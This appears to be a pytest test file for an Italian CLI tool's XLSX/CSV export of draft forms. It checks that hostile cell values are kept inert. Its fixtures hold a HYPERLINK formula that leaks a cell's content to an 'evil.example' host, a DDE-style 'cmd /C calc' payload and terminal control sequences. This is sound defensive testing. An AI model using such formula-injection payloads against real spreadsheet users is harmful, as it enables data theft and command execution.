"""`soc25 export DRAFT… --format xlsx|csv -o FILE [--jobs N]`: the XLSX read back with openpyxl
and the CSV with the csv module, every value compared with `soc25 check --json` for the same
drafts: the shipped examples, and drafts made here with a value kept unreadable, NON
CALCOLABILE, a review, hostile texts and an unreadable file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings

from soc25_tui.cli import main
from soc25_tui.core.drafts import DraftError, dumps, load
from soc25_tui.core.layout import CELL_BY_NAME, CELLS, LABELS, NON_CALCOLABILE, Kind
from soc25_tui.core.review import Note, Review
from soc25_tui.core.visible import visible

from ..conftest import EXAMPLES
from ..factories import make
from ..hostile import RAW_FORBIDDEN, draft_bytes

FIXED = ["draft", "error", "comune", "provincia", "istat", "case", "quadro3_required", "errors",
         "warnings", "review_state", "notes_open"]
# Every cell of the form after them, in the form's order; the header's three are the fixed ones.
HEADER = FIXED + [c.name for c in CELLS if c.name not in ("comune", "provincia", "istat")]
WHEN = dt.datetime(2026, 11, 20, 10, 15, tzinfo=dt.timezone(dt.timedelta(hours=1)))

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'
CONTROLS = "Borgo\x1b]0;titolo\x07 San\u202eDalmazzo\x9b"  # OSC, BEL, bidi override, C1 CSI
CONTROLS_SHOWN = "Borgo␛]0;titolo␇ San⟨U+202E⟩Dalmazzo⟨U+009B⟩"


def _write(path: Path, draft) -> str:
    path.write_text(dumps(draft), encoding="utf-8")
    return str(path)


@pytest.fixture
def drafts(tmp_path) -> list[str]:
    """The examples and one draft per kind of trouble, in a fixed order."""
    folder = tmp_path / "bozze"
    folder.mkdir()
    paths = []
    for name in ("lomellina", "sondrio", "tortona", "vuota"):
        shutil.copy(EXAMPLES / f"{name}.toml", folder / f"{name}.toml")
        paths.append(str(folder / f"{name}.toml"))
    # A value kept verbatim (R03 «molti», a count «12x»): null in check --json, an error.
    invalid = folder / "non_valida.toml"
    invalid.write_text(dumps(make(comune="NON VALIDA")).replace("R03 = 1000", 'R03 = "molti"')
                       .replace("M12_2019 = 10", 'M12_2019 = "12x"'), encoding="utf-8")
    paths.append(str(invalid))
    paths.append(_write(folder / "nc.toml", make(comune="NC", R0E=NON_CALCOLABILE)))
    reviewed = make(comune="RIVISTA", provincia="PV", istat="018001")
    reviewed.review = Review("da-correggere", (
        Note("R06", "Il fabbisogno non è quello del portale", "mrossi", WHEN, False),
        Note(None, "Manca la relazione", "mrossi", WHEN, True),
        Note("R40", "Troppo breve", "lbianchi", WHEN, False),
    ))
    paths.append(_write(folder / "rivista.toml", reviewed))
    paths.append(_write(folder / "ostile.toml", make(
        comune=HYPERLINK, provincia="+39", R0C="@SUM(1+1)*cmd|' /C calc'!A0", M12_2019=-5,
        R40="-2+3 righe\nseconda riga\tcon tab", R10_modalita="\tTabulata")))
    paths.append(_write(folder / "controlli.toml", make(comune=CONTROLS, R40="a\x00b\x7fc\uffffd")))
    broken = folder / "rotta.toml"
    broken.write_text("[quadro1]\nM12_2019 = [\n", encoding="utf-8")
    paths.append(str(broken))
    return paths


def _check_json(capsys, paths: list[str]) -> list[dict]:
    main(["check", "--json", *paths])
    return json.loads(capsys.readouterr().out)


def _expected(obj: dict) -> list:
    """The export's row for a `check --json` object, in Python values: what the XLSX holds."""
    if "error" in obj:
        return [visible(obj["draft"]), visible(obj["error"])] + [None] * (len(HEADER) - 2)
    cells = obj["cells"]
    problems = obj["problems"]
    q3 = obj["quadro3_required"]
    row = [visible(obj["draft"]), None, cells["comune"], cells["provincia"], cells["istat"],
           obj["case"], None if q3 is None else ("SI" if q3 else "NO"),
           sum(p["severity"] == "errore" for p in problems),
           sum(p["severity"] == "avviso" for p in problems),
           obj["review"]["state"], sum(not n["resolved"] for n in obj["review"]["notes"])]
    row += [cells[name] for name in HEADER[len(FIXED):]]
    return [_shown(v) if isinstance(v, str) else v for v in row]


def _shown(text: str) -> str:
    """A text as a spreadsheet gets it: control characters shown (newline and tab kept), and
    U+FFFE/U+FFFF, which XML cannot hold, too."""
    return visible(text, multiline=True).replace("\uffff", "⟨U+FFFF⟩").replace("\ufffe", "⟨U+FFFE⟩")


def _nc(paths: list[str]) -> set[str]:
    """The drafts whose R0E is NON CALCOLABILE (NC, N.C. in the file too): the JSON says null."""
    found = set()
    for path in paths:
        try:
            if load(path).R0E == NON_CALCOLABILE:
                found.add(path)
        except DraftError:
            pass
    return found


def _expected_rows(objs: list[dict], paths: list[str]) -> list[list]:
    nc = _nc(paths)
    rows = []
    for obj in objs:
        row = _expected(obj)
        if obj["draft"] in nc:
            assert row[HEADER.index("R0E")] is None  # null in the JSON: the words in the sheet
            row[HEADER.index("R0E")] = NON_CALCOLABILE
        rows.append(row)
    return rows


def _xlsx(path: Path):
    return openpyxl.load_workbook(path)


def test_xlsx_holds_the_values_of_check_json(drafts, tmp_path, capsys):
    objs = _check_json(capsys, drafts)
    assert len(objs) == len(drafts) and "error" in objs[-1]
    out = tmp_path / "ufficio.xlsx"
    assert main(["export", *drafts, "-o", str(out)]) == 2  # one draft cannot be read
    err = capsys.readouterr().err
    assert "rotta.toml" in err and f"{len(drafts)} bozze esportate in {out}" in err
    ws = _xlsx(out)["Bozze"]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    expected = _expected_rows(objs, drafts)
    assert len(rows) == 1 + len(expected)
    for got, want, path in zip(rows[1:], expected, drafts, strict=True):
        for name, g, w in zip(HEADER, got, want, strict=True):
            assert g == w and type(g) is type(w), (path, name, g, w)
    # Not only equal: the examples' figures as their printed forms show them.
    tortona = dict(zip(HEADER, rows[3]))
    assert tortona["R09"] == 2420.47 and tortona["R06"] == 53895.69 and tortona["M12_2019"] == 15
    assert tortona["case"] == "D" and tortona["quadro3_required"] == "SI" and tortona["R39"] == "SI"
    lomellina = dict(zip(HEADER, rows[1]))
    assert lomellina["R0E"] == NON_CALCOLABILE and dict(zip(HEADER, rows[2]))["R0E"] == 3483


def test_xlsx_cells_are_numbers_in_italian_formats_and_texts_never_formulas(drafts, tmp_path, capsys):
    out = tmp_path / "ufficio.xlsx"
    main(["export", *drafts, "-o", str(out)])
    capsys.readouterr()
    ws = _xlsx(out)["Bozze"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(HEADER))}{len(drafts) + 1}"
    header = [c.value for c in ws[1]]
    assert all(c.font.bold for c in ws[1])
    seen = set()
    for row in ws.iter_rows(min_row=2):
        for name, cell in zip(header, row):
            if cell.value is None:
                continue
            kind = CELL_BY_NAME[name].kind if name in CELL_BY_NAME else None
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (name, cell.value)  # text, never a formula ("f")
                assert cell.number_format == "General"
            elif kind is Kind.DEC:
                assert cell.number_format == "#,##0.00", name
                seen.add("dec")
            else:  # counts, inhabitants, the ratio R0E, the counts of the fixed columns
                assert isinstance(cell.value, int) and cell.number_format == "#,##0", name
                seen.add("int")
    assert seen == {"dec", "int"}
    ostile = dict(zip(header, (c for c in ws[9])))
    assert ostile["comune"].value == HYPERLINK and ostile["comune"].data_type == "s"
    assert ostile["provincia"].value == "+39" and ostile["R0C"].value.startswith("@SUM")
    assert ostile["M12_2019"].value == -5  # a negative count kept as read: a number
    assert ostile["R40"].value == "-2+3 righe\nseconda riga\tcon tab"
    controlli = dict(zip(header, (c.value for c in ws[10])))
    assert controlli["comune"] == CONTROLS_SHOWN
    assert controlli["R40"] == "a␀b␡c⟨U+FFFF⟩d"
    # Widths a person can read: the path and texts wide, figures as wide as their name.
    widths = {name: ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width
              for i, name in enumerate(header, 1)}
    assert widths["draft"] >= 25 and widths["R40"] >= 40 and widths["comune"] >= 20
    assert all(widths[name] >= len(name) + 2 for name in header)
    assert widths["R06"] >= len("999.999.999,99")


def test_xlsx_second_sheet_names_every_column_in_italian(drafts, tmp_path, capsys):
    out = tmp_path / "ufficio.xlsx"
    main(["export", *drafts[:2], "-o", str(out)])
    wb = _xlsx(out)
    assert wb.sheetnames == ["Bozze", "Colonne"]
    rows = [list(r) for r in wb["Colonne"].iter_rows(values_only=True)]
    assert rows[0] == ["Colonna", "Descrizione", "Quadro"]
    assert [r[0] for r in rows[1:]] == HEADER
    labels = {r[0]: r[1] for r in rows[1:]}
    assert all(labels[name] for name in HEADER)
    assert labels["R06"] == "R06 - " + LABELS["R06"]
    assert labels["M12_2019"] == "M12 - Utenti famiglia e minori (Interventi e servizi) - Numero di utenti serviti - 2019"
    assert "calcolata" in labels["R09"] and "calcolata" not in labels["R08"]
    assert "NON CALCOLABILE" in labels["R0E"]
    assert labels["istat"] == "ISTAT - Codice ISTAT del Comune (facoltativo)"
    assert "non si può leggere" in labels["error"] and "SI o NO" in labels["quadro3_required"]
    assert {r[2] for r in rows[1:] if r[0] in ("R06", "R07_2017")} == {"Quadro 2 - Autodiagnosi della spesa per il sociale"}


def _csv_expected_text(name: str, value) -> str:
    """A value as the CSV writes it, from the JSON's: decimal comma, no thousands separator."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value[:1] in ("=", "+", "-", "@", "\t") else value
    if isinstance(value, float):
        assert CELL_BY_NAME[name].kind is Kind.DEC
        return f"{Decimal(repr(value)):.2f}".replace(".", ",")
    return str(value)


def test_csv_holds_the_values_of_check_json(drafts, tmp_path, capsys):
    objs = _check_json(capsys, drafts)
    out = tmp_path / "ufficio.csv"
    assert main(["export", *drafts, "--format", "csv", "-o", str(out)]) == 2
    capsys.readouterr()
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfdraft;error;comune;provincia;istat;case;quadro3_required;")
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == HEADER
    expected = _expected_rows(objs, drafts)
    assert len(rows) == 1 + len(expected)
    for got, want, path in zip(rows[1:], expected, drafts, strict=True):
        assert got == [_csv_expected_text(n, v) for n, v in zip(HEADER, want)], path
    # The rows end in CRLF; a newline inside R40 stays inside its quoted field.
    assert text.count("\r\n") == len(rows)
    tortona = dict(zip(HEADER, rows[3]))
    assert tortona["R09"] == "2420,47" and tortona["R06"] == "53895,69" and tortona["R0E"] == "4718"
    sondrio = dict(zip(HEADER, rows[2]))
    assert sondrio["R06"].count(",") == 1 and "." not in sondrio["R06"]  # 1.984.440,83 -> 1984440,83
    ostile = dict(zip(HEADER, rows[8]))
    assert ostile["comune"] == "'" + HYPERLINK and ostile["provincia"] == "'+39"
    assert ostile["R0C"].startswith("'@SUM") and ostile["R10_modalita"] == "'\tTabulata"
    assert ostile["R40"] == "'-2+3 righe\nseconda riga\tcon tab"
    assert ostile["M12_2019"] == "-5"  # a number, not a text: no apostrophe
    assert dict(zip(HEADER, rows[9]))["comune"] == CONTROLS_SHOWN
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text


def test_csv_to_stdout(drafts, capsysbinary):
    assert main(["export", *drafts[:2], "--format", "csv", "-o", "-"]) == 0
    captured = capsysbinary.readouterr()
    assert captured.out.startswith(b"\xef\xbb\xbfdraft;") and captured.out.count(b"\r\n") == 3
    assert "sull'uscita standard" in captured.err.decode()


def _many(tmp_path: Path, n: int) -> list[str]:
    """`n` drafts (more than core.batch runs in one process), varied, one unreadable."""
    folder = tmp_path / "molte"
    folder.mkdir()
    paths = []
    for i in range(n):
        path = folder / f"c{i:03d}.toml"
        if i == 37:
            path.write_text("schema_version = [", encoding="utf-8")
        else:
            path.write_text(dumps(make(comune=f"COMUNE {i}", R03=1000 + 37 * i,
                                       R08=Decimal(i * 1001) / 100)), encoding="utf-8")
        paths.append(str(path))
    return paths


def test_jobs_give_the_same_file_in_the_order_given(tmp_path, capsys):
    paths = _many(tmp_path, 80)
    paths = paths[::-1]  # the order given, not the names' order
    outs = []
    for jobs in ("1", "2"):
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"j{jobs}.{fmt}"
            assert main(["export", *paths, "-o", str(out), "-j" if fmt == "csv" else "--jobs", jobs]) == 2
            outs.append(out)
    capsys.readouterr()
    assert outs[0].read_bytes() == outs[2].read_bytes()
    rows = list(csv.reader(io.StringIO(outs[0].read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[0] for r in rows[1:]] == paths
    assert [r[2] for r in rows[1:]] == [f"COMUNE {i}" if i != 37 else "" for i in range(79, -1, -1)]
    sheets = [[list(r) for r in _xlsx(out)["Bozze"].iter_rows(values_only=True)] for out in (outs[1], outs[3])]
    assert sheets[0] == sheets[1] and [r[0] for r in sheets[0][1:]] == paths


def test_exit_zero_when_every_draft_is_read_even_with_errors(tmp_path, capsys):
    out = tmp_path / "x.xlsx"
    vuota = str(EXAMPLES / "vuota.toml")
    assert main(["check", vuota]) == 1  # it has errors
    assert main(["export", vuota, "-o", str(out)]) == 0
    assert "1 bozza esportata" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["-o", "{d}/nuova.toml"], "l'esportazione non scrive su una bozza"),
        (["-o", "{d}/a.toml"], "l'esportazione non scrive su una bozza"),
        (["--format", "csv", "-o", "{d}/link"], "è una delle bozze da esportare"),
        (["-o", "{d}/ufficio.csv"], "b.toml, una bozza: l'esportazione non la sovrascrive"),
        (["-o", "{d}/ieri.xlsx"], "b.toml.bak, la copia .bak di una bozza: l'esportazione non"),
        (["--format", "csv", "-o", "{d}/b.toml.bak"], "b.toml.bak: è la copia .bak di una bozza"),
        (["--format", "csv", "-o", "{d}/x.xlsx"], "l'estensione .xlsx è di un file XLSX"),
        (["-o", "{d}/x.txt"], "indicare il formato con --format"),
        (["--format", "csv", "-o", "{d}"], "è una cartella"),
        (["--jobs", "0", "-o", "{d}/x.csv"], "almeno 1"),
        (["--format", "ods", "-o", "{d}/x.ods"], "formato «ods» non previsto"),
    ],
)
def test_refusals_write_nothing_and_exit_two(tmp_path, capsys, argv, said):
    draft = tmp_path / "a.toml"
    draft.write_text(dumps(make()), encoding="utf-8")
    os.symlink(draft, tmp_path / "link")
    other = tmp_path / "b.toml"  # a draft not exported, and its backup, behind links
    other.write_text(dumps(make(comune="ALTRO")), encoding="utf-8")
    shutil.copy(other, tmp_path / "b.toml.bak")
    os.symlink(other, tmp_path / "ufficio.csv")
    os.symlink(tmp_path / "b.toml.bak", tmp_path / "ieri.xlsx")
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    argv = [a.replace("{d}", str(tmp_path)) for a in argv]
    try:
        status = main(["export", str(draft), *argv])
    except SystemExit as exc:
        status = exc.code
    assert status == 2
    assert said in capsys.readouterr().err
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == before


def test_an_export_that_fails_leaves_the_previous_file_and_no_temporary(tmp_path, capsys, monkeypatch):
    from soc25_tui.core import export

    draft = tmp_path / "a.toml"
    draft.write_text(dumps(make()), encoding="utf-8")
    out = tmp_path / "ufficio.csv"
    out.write_bytes(b"versione di ieri")
    calls = []

    def fail_on_second(path):
        calls.append(path)
        if len(calls) == 2:
            raise RuntimeError("guasto")
        return real(path)

    real = export.csv_row
    monkeypatch.setattr(export, "csv_row", fail_on_second)
    assert main(["export", str(draft), str(draft), "-o", str(out)]) == 3
    capsys.readouterr()
    assert out.read_bytes() == b"versione di ieri"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.toml", "ufficio.csv"]


def test_xlsx_cuts_a_text_past_what_an_excel_cell_holds(tmp_path, capsys):
    r40 = "parola " * 8000  # 56.000 characters: kept by the draft (an error past 6.000)
    path = _write(tmp_path / "lunga.toml", make(R40=r40))
    main(["export", path, "-o", str(tmp_path / "x.xlsx")])
    main(["export", path, "-o", str(tmp_path / "x.csv")])
    capsys.readouterr()
    got = dict(zip(HEADER, next(_xlsx(tmp_path / "x.xlsx")["Bozze"].iter_rows(min_row=2, values_only=True))))
    assert len(got["R40"]) == 32767 and got["R40"].endswith("…") and r40.startswith(got["R40"][:-1])
    row = list(csv.reader(io.StringIO((tmp_path / "x.csv").read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))[1]
    assert dict(zip(HEADER, row))["R40"] == r40  # the CSV keeps it whole


_HOSTILE = settings(
    max_examples=30, deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


@_HOSTILE
@given(content=draft_bytes())
def test_any_draft_exports_as_check_json_says_it_and_no_control_sequence_escapes(tmp_path_factory, capsys, content):
    """Whatever a draft holds (huge and odd figures, control sequences, markup, wrong types,
    other encodings): status 0 or 2, the draft untouched, the XLSX readable with the row
    check --json gives, the CSV with no raw control sequence from the data."""
    folder = tmp_path_factory.mktemp("ostili")
    path = folder / "ostile.toml"
    path.write_bytes(content)
    (obj,) = _check_json(capsys, [str(path), str(path)])[:1]
    xlsx, csv_path = folder.parent / f"{folder.name}.xlsx", folder.parent / f"{folder.name}.csv"
    for out in (xlsx, csv_path):
        status = main(["export", str(path), "-o", str(out)])
        err = capsys.readouterr().err
        assert status == (2 if "error" in obj else 0), err
        assert "Traceback" not in err and not any(seq in err.encode("utf-8", "surrogateescape") for seq in RAW_FORBIDDEN)
    assert path.read_bytes() == content and os.listdir(folder) == ["ostile.toml"]
    (row,) = [list(r) for r in _xlsx(xlsx)["Bozze"].iter_rows(min_row=2, values_only=True)]
    assert row == _expected_rows([obj], [str(path)])[0]
    raw = csv_path.read_bytes()
    assert not any(seq in raw for seq in RAW_FORBIDDEN)


def test_xlsx_to_stdout_when_it_is_not_a_terminal(capsysbinary, monkeypatch):
    from soc25_tui.cli import export as cli_export

    sondrio = str(EXAMPLES / "sondrio.toml")
    assert main(["export", sondrio, "--format", "xlsx", "-o", "-"]) == 0
    book = openpyxl.load_workbook(io.BytesIO(capsysbinary.readouterr().out))
    assert [c.value for c in book["Bozze"][2]][:4] == [sondrio, None, "SONDRIO", "SO"]
    monkeypatch.setattr(cli_export, "isatty", lambda stream: True)
    assert main(["export", sondrio, "--format", "xlsx", "-o", "-"]) == 2
    captured = capsysbinary.readouterr()
    assert captured.out == b"" and "non si scrive sul terminale" in captured.err.decode()


def test_a_path_with_characters_xml_cannot_hold_still_makes_a_workbook(tmp_path, capsys):
    """U+FFFE in a file's name (a draft that reads, one that does not): the XLSX is still
    XML that Excel and openpyxl open, the character shown as the other texts show it."""
    good = tmp_path / "a\ufffeb.toml"
    shutil.copy(EXAMPLES / "sondrio.toml", good)
    bad = tmp_path / "rotta\uffff.toml"
    bad.write_text("comune = [", encoding="utf-8")
    out = tmp_path / "ufficio.xlsx"
    assert main(["export", str(good), str(bad), "-o", str(out)]) == 2
    capsys.readouterr()
    rows = list(_xlsx(out)["Bozze"].iter_rows(min_row=2, values_only=True))
    assert rows[0][0] == str(tmp_path / "a⟨U+FFFE⟩b.toml") and rows[0][1] is None
    assert rows[0][2:4] == ("SONDRIO", "SO")
    assert rows[1][0] == str(tmp_path / "rotta⟨U+FFFF⟩.toml")
    assert "rotta⟨U+FFFF⟩.toml" in rows[1][1] and "\uffff" not in rows[1][1]
